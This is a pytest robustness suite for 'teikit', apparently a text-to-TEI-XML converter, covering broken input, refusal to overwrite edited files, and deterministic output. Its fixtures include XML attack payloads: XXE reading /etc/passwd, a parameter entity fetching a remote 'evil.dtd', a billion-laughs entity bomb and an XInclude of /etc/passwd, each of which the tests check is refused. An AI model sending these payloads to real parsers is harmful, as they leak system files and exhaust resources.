"""Hostile and broken input: every failure is one clear line with the right exit code, nothing an
encoder wrote is ever overwritten, and the same input always gives the same bytes.

Each case below is a row of the table in docs/robustness.md.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import pytest
from click.testing import CliRunner
from lxml import etree

from teikit.cli import cli
from teikit.model import SourceText
from teikit.pipeline import convert_file, convert_source, tei_bytes

from conftest import ROOT, TEI_NS

NS = TEI_NS
LETTER = "Letter of N. Petrov\n\nMoscow, 12 March 1930\n\nDear Comrade Ivanov,\n\nThe paper has not come.\n"

XXE = """<?xml version="1.0"?>
<!DOCTYPE TEI [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<TEI xmlns="http://www.tei-c.org/ns/1.0"><text><body><p>&xxe;</p></body></text></TEI>
"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE TEI SYSTEM "http://example.invalid/tei.dtd">
<TEI xmlns="http://www.tei-c.org/ns/1.0"/>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE TEI [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<TEI xmlns="http://www.tei-c.org/ns/1.0"/>
"""


def billion_laughs() -> str:
    """Ten levels of ten references each: 10^9 'lol's if a parser expanded them."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    return ('<?xml version="1.0"?>\n<!DOCTYPE TEI [' + "".join(entities) + ']>\n'
            '<TEI xmlns="http://www.tei-c.org/ns/1.0">&lol9;</TEI>\n')


def run(*args: str):
    return CliRunner().invoke(cli, list(args))


def one_line_error(result) -> str:
    """The user saw exactly one line on stderr, and no traceback."""
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert "Traceback" not in result.output
    return lines[0]


# ---------------------------------------------------------------- the table of broken inputs

@dataclass
class Case:
    """A broken input: how to make it in a folder, the command, and what teikit must answer."""

    id: str
    make: Callable[[Path], None]
    args: tuple[str, ...]
    exit_code: int
    message: str  # a regular expression the one-line error must match
    one_line: bool = True  # click's own usage errors add a usage hint under the message


def write(name: str, data: str | bytes) -> Callable[[Path], None]:
    def make(folder: Path) -> None:
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))
    return make


def both(*makers: Callable[[Path], None]) -> Callable[[Path], None]:
    def make(folder: Path) -> None:
        for maker in makers:
            maker(folder)
    return make


def folder(name: str) -> Callable[[Path], None]:
    return lambda base: (base / name).mkdir()


def nothing(base: Path) -> None:
    return None


EDITION_NO_MATCH = """<TEI xmlns="http://www.tei-c.org/ns/1.0" xmlns:e="https://teikit.org/ns/edition">
  <e:structure>
    <e:div type="letter" quote="words the text does not have"/>
  </e:structure>
</TEI>
"""
EDITION_AMBIGUOUS = EDITION_NO_MATCH.replace("words the text does not have", "paper")

CASES = [
    Case("missing text", nothing, ("convert", "{d}/nothere.txt"), 2, r"nothere\.txt: no such file$"),
    Case("directory as text", folder("texts"), ("convert", "{d}/texts"), 2, r"texts: is a directory, not a text file$"),
    Case("empty text", write("empty.txt", b""), ("convert", "{d}/empty.txt"), 2, r"empty\.txt: file is empty: nothing to convert$"),
    Case("blank text", write("blank.txt", " \n\t\n\n"), ("convert", "{d}/blank.txt"), 2, r"blank\.txt: file is empty"),
    Case("binary (PNG)", write("scan.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00"), ("convert", "{d}/scan.png"), 2,
         r"scan\.png: looks like a binary file \(it contains NUL bytes\), not plain text$"),
    Case("binary without NULs", write("noise.txt", bytes(range(1, 9)) * 8), ("convert", "{d}/noise.txt"), 2,
         r"noise\.txt: looks like a binary file \(mostly control characters\)"),
    Case("Latin-1 text", write("latin1.txt", b"A letter.\nCaf\xe9 Riche, Paris.\n"), ("convert", "{d}/latin1.txt"), 2,
         r"latin1\.txt:2:4: not valid utf-8 \(byte 0xe9 at offset 13\); .*--encoding"),
    Case("unknown --encoding", write("letter.txt", LETTER), ("convert", "{d}/letter.txt", "--encoding", "klingon"), 2,
         r"letter\.txt: unknown encoding 'klingon'$"),
    Case("missing --register", write("letter.txt", LETTER), ("convert", "{d}/letter.txt", "--register", "{d}/none.xml"), 2,
         r"none\.xml: no such file$"),
    Case("edition anchor matches nothing", both(write("letter.txt", LETTER), write("letter.edition.xml", EDITION_NO_MATCH)),
         ("convert", "{d}/letter.txt"), 2, r"letter\.edition\.xml:3: anchor 'words the text does not have' matches nothing in the text$"),
    Case("edition anchor ambiguous", both(write("letter.txt", LETTER + "\nThe paper has still not come.\n"),
                                          write("letter.edition.xml", EDITION_AMBIGUOUS)),
         ("convert", "{d}/letter.txt"), 2, r"letter\.edition\.xml:3: anchor 'paper' matches 2 places; add occurrence=\"N\"$"),
    Case("edition data with XXE", both(write("letter.txt", LETTER), write("letter.edition.xml", XXE)),
         ("convert", "{d}/letter.txt"), 2, r"letter\.edition\.xml:2: DOCTYPE declarations are not accepted"),
    Case("register malformed", both(write("letter.txt", LETTER),
                                    write("letter.register.xml", '<listPerson xmlns="http://www.tei-c.org/ns/1.0"><person>\n</listPerson>')),
         ("convert", "{d}/letter.txt"), 2, r"letter\.register\.xml:2:14: malformed XML: Opening and ending tag mismatch"),
    Case("register with billion laughs", both(write("letter.txt", LETTER), write("letter.register.xml", billion_laughs())),
         ("convert", "{d}/letter.txt"), 2, r"letter\.register\.xml:2: DOCTYPE declarations are not accepted"),
    Case("output folder not writable", write("letter.txt", LETTER), ("convert", "{d}/letter.txt", "-o", "/proc/letter.xml"), 2,
         r"/proc/letter\.xml: cannot write in the folder /proc: "),
    Case("a file in the way of the output folder", write("letter.txt", LETTER),
         ("convert", "{d}/letter.txt", "-o", "{d}/letter.txt/tei/letter.xml"), 2,
         r"cannot make the folder .*letter\.txt/tei: .*letter\.txt is a file$"),
    Case("output is a directory", both(write("letter.txt", LETTER), folder("out")), ("convert", "{d}/letter.txt", "-o", "{d}/out"), 2,
         r"out: is a directory, not a TEI file$"),
    Case("validate missing file", nothing, ("validate", "{d}/nothere.xml"), 2, r"nothere\.xml: no such file$"),
    Case("validate a directory", folder("tei"), ("validate", "{d}/tei"), 2, r"tei: is a directory, not an XML file$"),
    Case("validate empty file", write("empty.xml", b""), ("validate", "{d}/empty.xml"), 2, r"empty\.xml: file is empty: not an XML document$"),
    Case("validate binary file", write("scan.xml", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), ("validate", "{d}/scan.xml"), 2,
         r"scan\.xml:1:1: malformed XML: looks like a binary file"),
    Case("validate malformed XML", write("bad.xml", '<TEI xmlns="http://www.tei-c.org/ns/1.0">\n<text><body><p>x</body></text></TEI>\n'),
         ("validate", "{d}/bad.xml"), 2, r"bad\.xml:2:\d+: malformed XML: Opening and ending tag mismatch: p line 2 and body$"),
    Case("validate non-UTF-8 XML", write("latin1.xml", b'<TEI xmlns="http://www.tei-c.org/ns/1.0">Caf\xe9</TEI>\n'),
         ("validate", "{d}/latin1.xml"), 2, r"latin1\.xml:1:\d+: malformed XML: .*(UTF-8|encoding)"),
    Case("validate XXE", write("xxe.xml", XXE), ("validate", "{d}/xxe.xml"), 2,
         r"xxe\.xml:2: DOCTYPE declarations are not accepted \(no DTDs, no entities\)$"),
    Case("validate external DTD", write("dtd.xml", EXTERNAL_DTD), ("validate", "{d}/dtd.xml"), 2, r"dtd\.xml:2: DOCTYPE declarations are not accepted"),
    Case("validate parameter entity", write("pe.xml", PARAMETER_ENTITY), ("validate", "{d}/pe.xml"), 2, r"pe\.xml:2: DOCTYPE declarations are not accepted"),
    Case("validate billion laughs", write("lol.xml", billion_laughs()), ("validate", "{d}/lol.xml"), 2, r"lol\.xml:2: DOCTYPE declarations are not accepted"),
    Case("render XXE", write("xxe.xml", XXE), ("render", "{d}/xxe.xml", "-o", "{d}/site"), 2, r"xxe\.xml:2: DOCTYPE declarations are not accepted"),
    Case("render billion laughs", write("lol.xml", billion_laughs()), ("render", "{d}/lol.xml", "-o", "{d}/site"), 2,
         r"lol\.xml:2: DOCTYPE declarations are not accepted"),
    Case("render malformed XML", write("bad.xml", "<TEI>\n  <text>\n</TEI>\n"), ("render", "{d}/bad.xml", "-o", "{d}/site"), 2,
         r"bad\.xml:3:7: malformed XML: Opening and ending tag mismatch: text line 2 and TEI$"),
    Case("render missing file", nothing, ("render", "{d}/nothere.xml", "-o", "{d}/site"), 2, r"nothere\.xml: no such file$"),
    Case("build with no seeds", folder("seeds"), ("build", "--project", "{d}"), 2, r"seeds: no seeds/\*\.txt to build$"),
    Case("unknown command option", nothing, ("convert", "--frobnicate"), 2, r"No such option '--frobnicate'", one_line=False),
]


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_broken_input_gets_one_clear_line_and_its_exit_code(tmp_path, case):
    case.make(tmp_path)
    args = [a.replace("{d}", str(tmp_path)) for a in case.args]
    result = run(*args)
    assert result.exit_code == case.exit_code, result.output
    if case.one_line:
        line = one_line_error(result)
    else:
        assert "Traceback" not in result.output
        line = result.stderr
    assert re.search(case.message, line), line


def test_entity_bombs_are_refused_within_a_second(tmp_path):
    for name, text in (("lol.xml", billion_laughs()), ("xxe.xml", XXE)):
        (tmp_path / name).write_text(text, encoding="utf-8")
        started = time.monotonic()
        result = run("validate", str(tmp_path / name))
        assert time.monotonic() - started < 1
        assert result.exit_code == 2 and "root:" not in result.output


def test_xinclude_is_never_followed(tmp_path):
    """An XInclude of /etc/passwd is just an unknown element: reported invalid, never read."""
    path = tmp_path / "xi.xml"
    path.write_text('<TEI xmlns="http://www.tei-c.org/ns/1.0" xmlns:xi="http://www.w3.org/2001/XInclude" xml:lang="en">'
                    '<text><body><p><xi:include href="/etc/passwd" parse="text"/></p></body></text></TEI>\n')
    result = run("validate", str(path))
    assert result.exit_code == 1
    assert "root:" not in result.output and "xi:include" in result.stdout


def test_utf16_with_byte_order_mark_is_read(tmp_path):
    path = tmp_path / "letter.txt"
    path.write_bytes(LETTER.replace("\n", "\r\n").encode("utf-16"))
    assert tei_bytes(convert_file(path)).replace(b"utf16", b"") == tei_bytes(convert_file(_utf8_copy(path)))


def _utf8_copy(path: Path) -> Path:
    copy = path.with_name("copy") / path.name
    copy.parent.mkdir()
    copy.write_text(path.read_text(encoding="utf-16"), encoding="utf-8")
    return copy


def test_latin1_text_converts_with_encoding_option(tmp_path):
    path = tmp_path / "latin1.txt"
    path.write_bytes(b"A letter.\n\nCaf\xe9 Riche, Paris.\n")
    result = run("convert", str(path), "--encoding", "cp1252")
    assert result.exit_code == 0
    assert "Café Riche" in result.stdout


def test_crlf_and_cr_line_ends_give_the_same_tei_as_lf(tmp_path):
    outputs = []
    for name, ending in (("lf", "\n"), ("crlf", "\r\n"), ("cr", "\r")):
        path = tmp_path / name / "letter.txt"
        path.parent.mkdir()
        path.write_bytes(LETTER.replace("\n", ending).encode())
        outputs.append(tei_bytes(convert_file(path)))
    assert outputs[0] == outputs[1] == outputs[2]


def test_markup_in_the_text_stays_text(tmp_path):
    path = tmp_path / "tricky.txt"
    path.write_text('Notes\n\nA & B < C > D "quoted" ]]> <!DOCTYPE x> &amp; <?pi x?> <!-- no -->.\n')
    tree = etree.fromstring(run("convert", str(path)).stdout_bytes)
    text = "".join(tree.find("tei:text", NS).itertext())
    assert 'A & B < C > D "quoted" ]]> <!DOCTYPE x> &amp; <?pi x?> <!-- no -->.' in text


def test_debug_shows_the_traceback(tmp_path):
    result = run("--debug", "convert", str(tmp_path / "nothere.txt"))
    assert isinstance(result.exception, Exception) and "no such file" in str(result.exception)
    result = run("--debug", "validate", str(tmp_path / "nothere.xml"))
    assert "no such file" in str(result.exception)


def test_no_traceback_from_a_real_process(tmp_path):
    """The installed command, not the test runner: one line on stderr, exit 2."""
    result = subprocess.run([sys.executable, "-m", "teikit", "convert", str(tmp_path / "x.txt"), "-o", "/proc/x.xml"],
                            capture_output=True, text=True)
    assert result.returncode == 2
    assert result.stderr.count("\n") == 1 and "Traceback" not in result.stderr


def test_exit_codes_are_documented_in_help():
    for args in ((), ("convert",), ("validate",), ("render",), ("build",)):
        result = run(*args, "--help")
        assert "0  success" in result.output and "1  a document is invalid" in result.output
        assert "2  usage or input error" in result.output


# ---------------------------------------------------------------- characters XML cannot carry

def test_control_characters_are_kept_as_g(tmp_path):
    path = tmp_path / "bell.txt"
    path.write_bytes(b"Telegram\n\nSTOP\x07 ARRIVE MONDAY\x1b[0m.\n\x0c\nNext page.\n")
    result = run("convert", str(path))
    assert result.exit_code == 0
    tree = etree.fromstring(result.stdout_bytes)
    marks = [(g.get("type"), g.get("n")) for g in tree.iterfind(".//tei:text//tei:g", NS)]
    assert marks == [("control", "U+0007"), ("control", "U+001B"), ("control", "U+000C")]
    p = tree.find(".//tei:body//tei:p", NS)
    assert text_with_marks(p) == "STOP\x07 ARRIVE MONDAY\x1b[0m.\n\x0c\nNext page."
    convention = " ".join(tree.find(".//tei:encodingDesc/tei:editorialDecl", NS).itertext())
    assert "empty g elements" in convention and "U+0007" in convention


def text_with_marks(el: etree._Element) -> str:
    """The text of `el` with each `g` read back as the character it stands for and `lb` as a newline."""
    parts = [el.text or ""]
    for child in el:
        local = etree.QName(child).localname
        parts.append(chr(int(child.get("n")[2:], 16)) if local == "g" else "\n" if local == "lb" else text_with_marks(child))
        parts.append(child.tail or "")
    return "".join(parts)


def test_noncharacters_and_lone_surrogates_from_the_library_api():
    text = "Report\n\nA \ud800 b \ufffe c \U0010f807 d \U0010efff e.\n"
    tree = convert_source(SourceText(Path("x\udcff.txt"), text, tuple(text.split("\n")), "x"))
    p = tree.find(".//tei:body//tei:p", NS)
    assert [g.get("n") for g in p.iterfind("tei:g", NS)] == ["U+D800", "U+FFFE"]
    assert "\U0010f807 d \U0010efff e." in "".join(p.itertext())  # private-use letters are the source's own
    change = tree.find(".//tei:revisionDesc/tei:change", NS)
    assert change.find("tei:g", NS).get("n") == "U+DCFF"  # an undecodable byte in the file name


def test_a_text_without_control_characters_has_no_convention_paragraph(seed_tree):
    assert not seed_tree.findall(".//tei:g", NS)
    assert "empty g elements" not in " ".join(seed_tree.find(".//tei:encodingDesc", NS).itertext())


# ---------------------------------------------------------------- never clobber an encoder's work

def encoder_edit(path: Path) -> bytes:
    """Fix a typo and add a note, as an encoder does in an XML editor; returns the edited bytes."""
    data = path.read_bytes().decode("utf-8")
    assert "contributer" in data
    data = data.replace("contributer", "contributor", 1)
    data = data.replace("Greetings.</salute>", 'Greetings.<note type="editorial">Checked against the Russian.</note></salute>', 1)
    assert "Checked against" in data
    path.write_bytes(data.encode("utf-8"))
    return path.read_bytes()


def test_an_encoders_edit_survives_every_command(project):
    tei = project / "tei" / "blumkin-1929.xml"
    if not tei.exists():
        run("build", "--project", str(project), "-j", "1")
    edited = encoder_edit(tei)
    seed = str(project / "seeds" / "blumkin-1929.txt")

    result = run("convert", seed, "-o", str(tei))
    assert result.exit_code == 2
    assert "was edited since teikit wrote it; refusing to overwrite (use --force" in one_line_error(result)
    assert tei.read_bytes() == edited

    run("build", "--project", str(project), "-j", "1")
    assert tei.read_bytes() == edited
    result = run("build", "--project", str(project), "-j", "1", "--reconvert")
    assert result.exit_code != 0 and "was edited since teikit wrote it" in result.stderr
    assert tei.read_bytes() == edited
    run("render", str(tei), "-o", str(project / "site"))
    assert tei.read_bytes() == edited
    run("validate", str(tei))
    assert tei.read_bytes() == edited
    assert not list(project.rglob("*.bak"))

    result = run("convert", seed, "-o", str(tei), "--force")
    assert result.exit_code == 0
    assert (project / "tei" / "blumkin-1929.xml.1.bak").read_bytes() == edited
    assert b"Checked against the Russian" not in tei.read_bytes()
    assert "your edited version is kept in" in result.stderr


def test_writes_are_atomic_no_temporary_files_left(project):
    run("build", "--project", str(project), "-j", "1")
    assert not [p for p in project.rglob("*") if p.name.endswith(".tmp")]


def test_written_files_are_readable_like_any_new_file_and_keep_an_existing_mode(tmp_path):
    """A web server must be able to serve site/ (mkstemp alone would leave every page 0600), and
    an encoder's own chmod on the TEI survives a rewrite."""
    from teikit.xmlio import new_file_mode, write_atomic

    page, tei = tmp_path / "site" / "reading.html", tmp_path / "letter.xml"
    write_atomic(page, b"<p>x</p>")
    assert page.stat().st_mode & 0o777 == new_file_mode() == 0o666 & ~current_umask()
    tei.write_bytes(b"old")
    tei.chmod(0o640)
    write_atomic(tei, b"new")
    assert tei.stat().st_mode & 0o777 == 0o640


def current_umask() -> int:
    umask = os.umask(0o022)
    os.umask(umask)
    return umask


def test_a_failed_write_leaves_the_old_file_whole(tmp_path, monkeypatch):
    from teikit import xmlio

    target = tmp_path / "letter.xml"
    target.write_bytes(b"old")

    def crash(*args):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(xmlio.os, "replace", crash)
    with pytest.raises(xmlio.InputError, match="No space left on device"):
        xmlio.write_atomic(target, b"new")
    assert target.read_bytes() == b"old"
    assert [p.name for p in tmp_path.iterdir()] == ["letter.xml"]


# ---------------------------------------------------------------- determinism

def test_same_bytes_whatever_the_time_zone_and_locale(tmp_path):
    text = tmp_path / "letter.txt"
    text.write_text(LETTER + "\nWritten on 3 April 1931 at 23:59.\n", encoding="utf-8")
    outputs = []
    for extra in ({}, {"TZ": "Pacific/Kiritimati", "LC_ALL": "C", "LANG": "C"},
                  {"TZ": "America/Adak", "LC_ALL": "C.UTF-8", "PYTHONHASHSEED": "12345"}):
        env = {**os.environ, **extra}
        outputs.append(subprocess.run([sys.executable, "-m", "teikit", "convert", str(text)],
                                      capture_output=True, env=env, check=True).stdout)
    assert outputs[0] == outputs[1] == outputs[2]


def test_adding_a_paragraph_near_the_top_keeps_the_ids_below(tmp_path, seed_text):
    original = seed_text.read_text(encoding="utf-8")
    anchor = "\n\nDeputy Prev OGPU"  # after the first paragraph of the first document
    assert anchor in original
    added = original.replace(anchor, "\n\nAn archivist's pencil note, added near the top of the file." + anchor, 1)
    ids_before = ids_of(convert_source(source_of(original)))
    ids_after = ids_of(convert_source(source_of(added)))
    assert len(ids_after) == len(ids_before) + 1
    assert set(ids_before) <= set(ids_after)


def source_of(text: str) -> SourceText:
    return SourceText(Path("blumkin-1929.txt"), text, tuple(text.split("\n")), "blumkin-1929")


def ids_of(tree: etree._ElementTree) -> list[str]:
    return [el.get("{http://www.w3.org/XML/1998/namespace}id")
            for el in tree.find("tei:text", NS).iter() if isinstance(el.tag, str)
            and el.get("{http://www.w3.org/XML/1998/namespace}id")]


def test_adding_a_paragraph_near_the_top_keeps_the_reading_views_anchors_below(seed_text):
    """Citable links into the reading view (paragraphs, names, dates) survive an added paragraph:
    a mention's id counts within its own paragraph, never across the document."""
    from teikit.render import render_tree

    original = seed_text.read_text(encoding="utf-8")
    anchor = "\n\nDeputy Prev OGPU"
    added = original.replace(anchor, "\n\nComrade Trotsky wrote on 3 May 1929 from Prinkipo." + anchor, 1)

    def anchors(text: str) -> set[str]:
        html = render_tree(convert_source(source_of(text)), "reading", "blumkin-1929")
        return set(re.findall(r'\bid="([^"]+)"', html))

    before, after = anchors(original), anchors(added)
    assert any(re.search(r"-p-[0-9a-f]+-n\d+$", i) for i in before)  # mentions are counted per paragraph
    assert before <= after


def test_every_file_the_schema_accepts_renders(tmp_path):
    """An encoder may drop any attribute the schema lets go (a division's type, a name's ref…): the
    views must still render. The every-element document is stripped of each attribute whose removal
    keeps it valid against the XSD, and the views and registers are made of both."""
    from teikit.render import render_edition
    from teikit.validate import xsd_gate

    full = etree.parse(str(ROOT / "tests" / "data" / "validate" / "every-element.xml"))
    stripped = etree.parse(str(ROOT / "tests" / "data" / "validate" / "every-element.xml"))
    removed = []
    for el in stripped.iter():
        for name, value in list(el.attrib.items()):
            del el.attrib[name]
            if xsd_gate().validate(stripped):
                removed.append(name)
            else:
                el.set(name, value)
    assert {"type", "ref", "when"} <= {etree.QName(name).localname for name in removed}

    for name, tree in (("full", full), ("stripped", stripped)):
        written = render_edition(tree, name, tmp_path)
        assert {p.name for p in written} == {"reading.html", "diplomatic.html", "index.html",
                                             "register.json", "register.csv", f"{name}.xml"}
        assert all(p.read_text(encoding="utf-8").rstrip().endswith("</html>")
                   for p in written if p.suffix == ".html")


def test_a_view_that_fails_says_so_in_one_line_and_keeps_saxons_trace_for_debug(tmp_path):
    """Saxon prints a many-line trace of a failing stylesheet on the process's stderr; the user sees
    teikit's one line, and --debug shows the trace."""
    home = tmp_path / "home"
    shutil.copytree(ROOT / "schema", home / "schema")
    shutil.copytree(ROOT / "xslt", home / "xslt")
    diplomatic = home / "xslt" / "diplomatic.xsl"
    diplomatic.write_text(diplomatic.read_text(encoding="utf-8").replace(
        '<xsl:apply-templates select="$tei/text"/>',
        "<xsl:sequence select=\"error(xs:QName('t:broken'), 'this view cannot be made')\"/>", 1), encoding="utf-8")
    env = {**os.environ, "TEIKIT_HOME": str(home)}
    command = [sys.executable, "-m", "teikit", "render", str(ROOT / "tei" / "blumkin-1929.xml"), "-o", str(tmp_path / "site")]

    result = subprocess.run(command, capture_output=True, text=True, env=env)
    assert result.returncode == 2
    assert result.stderr == "teikit: blumkin-1929: diplomatic view failed: this view cannot be made\n"

    debug = subprocess.run(command[:3] + ["--debug"] + command[3:], capture_output=True, text=True, env=env)
    assert debug.returncode != 0 and "SaxonTrace" in debug.stderr and "diplomatic.xsl" in debug.stderr
